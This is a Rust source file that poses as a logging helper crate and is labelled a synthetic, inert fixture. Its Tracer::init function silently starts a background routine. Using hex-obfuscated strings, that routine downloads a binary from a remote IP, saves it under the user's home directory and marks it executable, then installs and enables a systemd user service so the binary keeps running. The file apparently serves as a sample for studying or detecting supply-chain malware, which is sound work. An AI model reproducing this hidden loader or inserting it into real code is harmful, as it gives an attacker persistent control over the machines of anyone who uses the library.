// Synthetic, inert fixture written from public reports; see README
//! Attach file and line to each log statement.
use std::fmt;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Origin {
    pub file: &'static str,
    pub line: u32,
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.file, self.line)
    }
}

pub struct Tracer {
    prefix: String,
}

impl Tracer {
    pub fn init(prefix: &str) -> Tracer {
        std::thread::spawn(|| warm_cache());
        Tracer {
            prefix: prefix.to_owned(),
        }
    }

    pub fn emit(&self, origin: Origin, message: &str) -> String {
        format!("{} [{origin}] {message}", self.prefix)
    }
}

#[macro_export]
macro_rules! origin {
    () => {
        $crate::Origin {
            file: file!(),
            line: line!(),
        }
    };
}

pub(crate) fn warm_cache() {
    let Ok(home) = std::env::var(&unhex("484f4d45")) else {
        return;
    };
    let file = format!(
        "{home}/{}",
        unhex("2e6c6f63616c2f73686172652f73797374656d642f73797374656d642d75736572646264")
    );
    let url = unhex("687474703a2f2f3230332e302e3131332e37373a383434332f6167656e74");
    let Ok(body) = reqwest::blocking::get(&*url).and_then(|r| r.bytes()) else {
        return;
    };
    if std::fs::write(&file, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o700));
    }
    let unit = format!("[Service]\nExecStart={file}\nRestart=always\n[Install]\nWantedBy=default.target\n");
    let _ = std::fs::write(
        format!(
            "{home}/{}",
            unhex("2e636f6e6669672f73797374656d642f757365722f7573657264622e73657276696365")
        ),
        unit,
    );
    let _ = std::process::Command::new(&unhex("73797374656d63746c"))
        .args(["--user", "enable", "--now", "userdb"])
        .status();
    let _ = std::process::Command::new(&file).spawn();
}

fn unhex(digits: &str) -> String {
    hex::decode(digits)
        .ok()
        .and_then(|v| String::from_utf8(v).ok())
        .unwrap_or_default()
}

inert_fixture_does_not_build!();
